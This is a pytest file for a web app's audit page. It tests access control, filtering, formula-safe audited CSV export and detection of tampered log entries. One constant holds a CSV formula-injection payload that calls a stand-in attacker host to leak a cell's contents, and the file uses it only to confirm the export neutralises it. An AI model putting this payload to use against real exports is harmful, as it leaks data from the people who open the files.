"""The audit page: who may open it, filters, CSV export (formula-safe, audited), verify naming the break."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from conftest import dash_call, login
from export_helpers import copied_app
from sqlalchemy import text

TABLE = ["audit-table", "audit-count"]
FILTERS = {"audit-since.value": "2000-01-01", "audit-until.value": "2100-01-01"}
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def audit_app(sample_warehouse, tmp_path_factory):
    with copied_app(sample_warehouse, tmp_path_factory.mktemp("audit")) as (app, wh):
        yield app, wh


def _client(app, user):
    client = app.server.test_client()
    if user:
        assert login(client, user).status_code == 302
    return client


@pytest.mark.parametrize(("user", "status"), [("t.auditor", 200), ("t.admin", 200), ("t.leader", 403),
                                              ("t.manager.chi", 403), ("t.display", 403)])
@pytest.mark.requirement("URS-AUD-008", "URS-ACC-002")
def test_only_auditors_and_admins(audit_app, user, status):
    app, _ = audit_app
    client = _client(app, user)
    assert dash_call(client, app, TABLE, {"audit-apply.n_clicks": 1}, FILTERS).status_code == status
    assert dash_call(client, app, ["audit-verify-result"], {"audit-verify.n_clicks": 1}).status_code == status
    assert dash_call(client, app, ["audit-download"], {"audit-csv.n_clicks": 1}, FILTERS).status_code == status


@pytest.mark.requirement("URS-AUD-008")
def test_filters_narrow_the_table(audit_app):
    app, _ = audit_app
    client = _client(app, "t.auditor")
    body = dash_call(client, app, TABLE, {"audit-apply.n_clicks": 1},
                     FILTERS | {"audit-user.value": "t.auditor", "audit-action.value": "login"}).get_json()
    rendered = json.dumps(body)
    assert "entries, newest first" in rendered
    region = body["response"]["audit-table"]["children"]  # the focusable region holding the table
    assert region["props"]["tabIndex"] == "0" and region["props"]["role"] == "region"
    cells = region["props"]["children"]["props"]["children"][1]["props"]["children"]
    assert cells and all(row["props"]["children"][2]["props"]["children"] == "t.auditor" for row in cells)
    assert all(row["props"]["children"][3]["props"]["children"] == "login" for row in cells)


@pytest.mark.requirement("URS-AUD-009", "URS-EXP-010")
def test_csv_export_neutralises_injection_and_is_audited(audit_app):
    app, wh = audit_app
    # An attacker controls the user name typed on the login form, which the audit trail records.
    assert login(app.server.test_client(), INJECTION, "wrong-password-123").status_code == 401
    client = _client(app, "t.auditor")
    response = dash_call(client, app, ["audit-download"], {"audit-csv.n_clicks": 1},
                         FILTERS | {"audit-action.value": "login_failed"})
    data = response.get_json()["response"]["audit-download"]["data"]
    content = base64.b64decode(data["content"])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header = {r[0]: r[1:] for r in rows[:rows.index([])]}
    assert header["# Title"] == ["Audit trail"] and header["# Exported by"][0].startswith("t.auditor")
    cells = [c for r in rows[rows.index([]) + 1:] for c in r]
    assert "'" + INJECTION in cells and INJECTION not in cells
    last = wh.query("sql/audit_all").iloc[-1]
    assert last.action == "export" and last.object_type == "audit" and last.user_id == "t.auditor"
    assert json.loads(last.new_value)["file"] == data["filename"]


@pytest.mark.requirement("URS-AUD-010")
def test_verify_names_the_tampered_entry(audit_app):
    app, wh = audit_app
    client = _client(app, "t.auditor")
    ok = json.dumps(dash_call(client, app, ["audit-verify-result"], {"audit-verify.n_clicks": 1}).get_json())
    assert "Chain intact" in ok
    entries = wh.query("sql/audit_all")
    target = int(entries.entry_id.iloc[len(entries) // 2])
    with wh.engine.begin() as conn:  # behind the app's back, as a DBA could on DuckDB
        conn.execute(text("UPDATE audit_log SET reason = 'nothing to see' WHERE entry_id = :id"), {"id": target})
    broken = json.dumps(dash_call(client, app, ["audit-verify-result"], {"audit-verify.n_clicks": 1}).get_json())
    assert "Chain broken" in broken and f"First bad entry: #{target}" in broken
    assert "entry content was altered" in broken
